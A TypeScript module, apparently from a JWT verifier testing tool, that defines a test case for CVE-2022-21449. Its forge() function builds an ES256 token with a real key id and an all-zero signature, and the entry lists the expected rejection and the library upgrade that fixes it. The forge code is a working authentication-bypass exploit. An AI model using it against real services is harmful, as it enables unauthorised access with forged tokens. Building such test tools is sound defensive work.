import type { Defect } from './types.js';

export const psychicSignature: Defect = {
  info: {
    token: 'ES256 with r = s = 0 (CVE-2022-21449)',
    verifier: 'reject: r and s must be in [1, n-1]',
  },
  outcome: 'unauthenticated',
  needsTrustedKey: false,
  fix: 'Upgrade the JVM/crypto library (CVE-2022-21449): ECDSA signatures with r = s = 0 must fail.',
  build: {
    async forge({ claims, alg, kid, keystore, kit }) {
      // The keystore's kid for this curve: kid-based verifiers (PyJWKClient, jwks-rsa, gateways) look the key
      // up first and would reject an unknown or missing kid before ever reaching the r = s = 0 check.
      const ecAlg = /^ES/.test(alg) ? alg : 'ES256';
      const ecKid = ecAlg === alg && kid ? kid : (await keystore.signingKey(ecAlg)).record.kid;
      const header = { alg: ecAlg, typ: 'JWT', kid: ecKid };
      const zeros = Buffer.alloc(kit.ecdsaSignatureLength(ecAlg)).toString('base64url');
      return {
        token: `${kit.encodeSegment(header)}.${kit.encodeSegment(claims)}.${zeros}`,
        header,
      };
    },
  },
};
